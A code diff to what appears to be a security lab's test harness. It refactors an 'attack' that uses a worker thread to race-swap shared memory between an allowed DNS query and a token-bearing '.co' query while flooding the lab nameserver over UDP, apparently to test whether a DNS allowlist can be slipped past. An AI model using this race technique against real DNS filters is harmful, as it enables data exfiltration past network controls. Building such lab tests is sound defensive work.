@@ -113,11 +113,19 @@ exports.attacks = {
       const texts = [query(lab, lab.allowedName), query(lab, `${lab.token}.co`)];
       const memory = new SharedArrayBuffer(texts[0].length);
       Buffer.from(memory).set(texts[0]);
-      const code = 'const { memory, texts } = workerData; const bytes = new Uint8Array(memory); for (const end = Date.now() + 2000; Date.now() < end; ) for (const text of texts) bytes.set(text);';
+      const code = `
+        const { memory, texts } = require('node:worker_threads').workerData;
+        const bytes = new Uint8Array(memory);
+        for (const end = Date.now() + 2000; Date.now() < end; ) for (const text of texts) bytes.set(text);`;
       const { Worker } = require('node:worker_threads');
-      const ended = new Promise((done) => new Worker(`const { workerData } = require('node:worker_threads'); ${code}`, { eval: true, workerData: { memory, texts } }).on('exit', done).on('error', done));
+      const worker = new Worker(code, { eval: true, workerData: { memory, texts } });
+      const ended = new Promise((done) => worker.on('exit', done).on('error', done));
       const socket = require('node:dgram').createSocket('udp4');
-      for (const end = Date.now() + 2000; Date.now() < end; await new Promise(setImmediate)) socket.send(Buffer.from(memory), 53, lab.nameserver, () => undefined);
+      const end = Date.now() + 2000;
+      while (Date.now() < end) {
+        socket.send(Buffer.from(memory), 53, lab.nameserver, () => undefined);
+        await new Promise(setImmediate);
+      }
       socket.close();
       await ended;
     },
